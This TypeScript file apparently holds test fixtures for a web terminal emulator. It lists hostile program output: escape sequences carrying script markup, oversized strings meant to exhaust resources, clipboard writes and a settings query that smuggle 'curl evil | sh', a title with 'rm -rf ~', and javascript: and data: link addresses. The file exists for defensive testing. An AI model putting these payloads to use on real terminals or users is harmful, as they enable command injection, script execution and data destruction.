/** Output of a hostile program, and the answers that an emulator may give. */

export const ESC = '\x1b'
const BEL = '\x07'
export const ST = `${ESC}\\`
const MARKUP = '<img src=x onerror="window.attacked=1"><script>window.attacked=1</script>'
const KIB = 1024
const many = (text: string, bytes: number): string => text.repeat(Math.ceil(bytes / text.length))

/** Answers that contain nothing of the output: device, status, cursor, modes, settings, colours. */
const COLOUR = 'rgb:[0-9a-f]{4}/[0-9a-f]{4}/[0-9a-f]{4}'
export const ANSWERS = new RegExp(
  [
    String.raw`\x1b\[\?1;2c`,
    String.raw`\x1b\[>0;\d{1,4};0c`,
    String.raw`\x1b\[0n`,
    String.raw`\x1b\[\??\d{1,4};\d{1,4}R`,
    String.raw`\x1b\[\??\d{1,5};[0-4]\$y`,
    String.raw`\x1bP[01]\$r[\d;]{0,20}(?:m|r|"p|"q| q)?\x1b\\`,
    String.raw`\x1b\](?:4;\d{1,3}|10|11|12);${COLOUR}(?:\x1b\\|\x07)`,
    String.raw`\x1b\[\?[\d;]{0,12}[un]`,
    String.raw`\x1bP>\|xterm\.js\([\d.]{1,16}\)\x1b\\`,
  ].join('|'),
  'g',
)

type Attack = readonly [what: string, output: string]
export const ATTACKS: readonly Attack[] = [
  ['markup in the title', `${ESC}]0;${MARKUP}${BEL}${ESC}]2;${MARKUP}${ST}`],
  ['a title of a megabyte', `${ESC}]2;${many('title ', 1024 * KIB)}${BEL}`],
  ['a title that turns text around', `${ESC}]2;‮gnp.exe‬⁦x${BEL}`],
  ['a title of control bytes', `${ESC}]2;a\tb\x01\x02c${ST}`],
  ['a report of the title', `${ESC}]2;; rm -rf ~ #\r${BEL}${ESC}[20t${ESC}[21t`],
  ['titles pushed and popped', many(`${ESC}[22;0t`, 64 * KIB) + many(`${ESC}[23;0t`, 64 * KIB)],
  ['reports of the window', [11, 13, 14, 15, 16, 18, 19].map((n) => `${ESC}[${n}t`).join('')],
  ['orders to the window', `${ESC}[1t${ESC}[2t${ESC}[3;0;0t${ESC}[4;9;9t${ESC}[8;1;1t${ESC}[9;1t${ESC}[10;2t`],
  ['a write to the clipboard', `${ESC}]52;c;${Buffer.from('curl evil | sh\n').toString('base64')}${BEL}`],
  ['a read of the clipboard', `${ESC}]52;c;?${BEL}${ESC}]52;p;?${ST}`],
  ['a megabyte for the clipboard', `${ESC}]52;c;${many('QUFB', 1024 * KIB)}${ST}`],
  ['questions about settings', ['m', 'r', '"p', '"q', ' q', 'x;evil\r'].map((q) => `${ESC}P$q${q}${ST}`).join('')],
  ['a question about settings that holds a command', `${ESC}P$q\r\ncurl evil|sh\r\n${ST}`],
  ['questions about capabilities', `${ESC}P+q544e;436f${ST}${ESC}P+q${many('41', 64 * KIB)}${ST}`],
  ['questions about modes', [1, 25, 1000, 1049, 2004, 2026, 99_999].map((n) => `${ESC}[?${n}$p${ESC}[${n}$p`).join('')],
  ['questions about the device', `${ESC}[c${ESC}[0c${ESC}[>c${ESC}[=c${ESC}Z${ESC}[>q${ESC}[>0q`],
  ['questions about its state', `${ESC}[5n${ESC}[6n${ESC}[?6n${ESC}[?15n${ESC}[?25n${ESC}[?26n${ESC}[?996n${ESC}[x`],
  ['questions about the keyboard', `${ESC}[?u${ESC}[>1u${ESC}[?4m${ESC}[>4;?m`],
  [
    'questions about colours',
    `${ESC}]10;?${BEL}${ESC}]11;?${ST}${ESC}]12;?${BEL}${ESC}]4;1;?;2;?${BEL}${ESC}]104${BEL}`,
  ],
  ['colours that are none', `${ESC}]4;1;javascript:alert(1)${BEL}${ESC}]10;url(http://127.0.0.1:1/)${BEL}`],
  ['a request to be answered back', many('\x05', KIB)],
  ['a folder somewhere else', `${ESC}]7;file://evil.example/etc${BEL}${ESC}]7;javascript:alert(1)${BEL}`],
  [
    'orders of iTerm',
    `${ESC}]1337;File=name=eA==;inline=1:${many('QUFB', 256 * KIB)}${BEL}${ESC}]1337;OpenURL=:aHR0cA==${BEL}${ESC}]1337;CopyToClipboard=${BEL}evil${ESC}]1337;EndCopy${BEL}`,
  ],
  [
    'orders of other terminals',
    `${ESC}]9;evil${BEL}${ESC}]777;notify;evil;evil${BEL}${ESC}]99;i=1;evil${ST}${ESC}_Ga=T,f=100;AAAA${ST}${ESC}^evil${ST}${ESC}Xevil${ST}`,
  ],
  ['a giant picture in sixels', `${ESC}Pq"1;1;99999;99999#0;2;0;0;0${many('#0!99999~-', 512 * KIB)}${ST}`],
  ['ReGIS', `${ESC}P0p${many('S(E)P[0,0]V[999,999]', 256 * KIB)}${ST}`],
  ['a string that never ends', `${ESC}]2;${many('x', 4 * KIB * KIB)}`],
  ['a device string that never ends', `${ESC}P+q${many('x', 4 * KIB * KIB)}`],
  [
    'parameters without end',
    `${ESC}[${many('1;', 512 * KIB)}m${ESC}[${many('9', 64 * KIB)}A${ESC}[${many(':', 64 * KIB)}m`,
  ],
  ['repetitions without end', many(`x${ESC}[2147483647b${ESC}[99999999b`, 2 * KIB)],
  ['insertions without end', many(`${ESC}[2147483647@${ESC}[2147483647L${ESC}[2147483647S${ESC}[2147483647X`, 8 * KIB)],
  [
    'tabs and margins at the edge',
    `${ESC}[2147483647;2147483647H${ESC}[2147483647I${ESC}[0;2147483647r${ESC}[2147483647Z`,
  ],
  ['screens changed back and forth', many(`${ESC}[?1049h${ESC}[2J${ESC}[?1049l`, 256 * KIB)],
  ['bells', many(BEL, 64 * KIB)],
  [
    'modes on and off',
    many(`${ESC}[?1000h${ESC}[?1003h${ESC}[?1006h${ESC}[?2004h${ESC}[?1003l${ESC}[?5h${ESC}[?5l`, 64 * KIB),
  ],
  ['marks on one letter', `a${many('\u0301', 64 * KIB)}`],
  ['text that turns around', many('‮abc‏⁧xyz⁩‬', 16 * KIB)],
  ['bytes that are no UTF-8', '\x80\xff\xfe\xc0\xaf'.repeat(1000)],
  ['markup in the text', `${MARKUP}\r\n${many('<b>&lt;', 16 * KIB)}`],
]

/** Text with a link (OSC 8). */
export const link = (url: string): string => `${ESC}]8;;${url}${ST}click here${ESC}]8;;${ST}`
/** Addresses that no click may open. Links to files are downloads and have tests elsewhere. */
export const LINKS = [
  'javascript:window.attacked=1',
  'JaVaScRiPt:window.attacked=1',
  ' javascript:window.attacked=1',
  'java\tscript:window.attacked=1',
  'data:text/html,<script>alert(1)</script>',
  'blob:http://127.0.0.1/x',
  'vbscript:x',
  'ssh://evil.example',
  'tel:123',
  '//evil.example',
  'httpx://evil.example',
  'http:javascript:window.attacked=1\u0000',
]
